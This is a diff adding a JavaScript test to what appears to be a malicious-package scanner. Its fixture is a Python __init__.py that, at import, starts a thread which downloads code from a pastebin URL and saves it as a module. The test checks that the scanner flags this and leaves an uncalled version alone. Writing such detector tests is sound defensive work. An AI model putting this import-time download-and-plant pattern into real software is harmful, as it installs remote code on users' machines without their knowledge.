@@ -68,3 +68,23 @@ test('sends on a TLS-wrapped socket or a create_connection() socket are socket s
     assert.ok(out.findings.some((f) => f.ruleId === 'py/host-data-exfiltration' && f.message.includes('c2.example.invalid')));
   }
 });
+
+test('a function started in a thread at import runs at import; downloaded code saved as a module is flagged', async () => {
+  const { out, score } = await scan({
+    'pkg/__init__.py': [
+      'import requests, threading, os',
+      'def init():',
+      "    code = requests.get('https://pastebin.com/raw/abc').text",
+      "    with open(os.path.join(os.path.expanduser('~'), 'site-packages', 'helper', '__init__.py'), 'w') as f:",
+      '        f.write(code)',
+      'threading.Thread(target=init).start()',
+    ].join('\n'),
+  });
+  assert.equal(score.verdict, 'malicious', score.reason);
+  assert.ok(out.findings.some((f) => f.ruleId === 'py/download-execute' && f.trigger === 'import'));
+  // The same function, never started, only runs when called.
+  const { score: quiet } = await scan({
+    'pkg/__init__.py': "import requests\ndef init():\n    code = requests.get('https://pastebin.com/raw/abc').text\n    open('helper.py', 'w').write(code)\n",
+  });
+  assert.notEqual(quiet.verdict, 'malicious');
+});
